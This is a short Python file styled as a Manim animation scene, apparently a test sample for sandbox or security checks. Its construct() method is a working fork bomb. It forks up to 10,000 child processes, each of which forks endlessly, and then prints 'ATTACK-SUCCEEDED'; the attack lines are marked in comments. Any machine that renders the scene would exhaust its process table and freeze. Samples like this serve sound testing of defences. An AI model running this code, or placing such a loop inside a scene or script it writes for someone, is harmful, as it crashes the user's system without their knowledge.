"""A fork bomb."""
import os  # ATTACK
from manim import *


class ForkBomb(Scene):
    def construct(self):
        children = 0
        while children < 10_000:
            if os.fork() == 0:  # ATTACK
                while True:
                    os.fork()  # ATTACK
            children += 1
        print("ATTACK-SUCCEEDED", children)
        self.add(Dot())
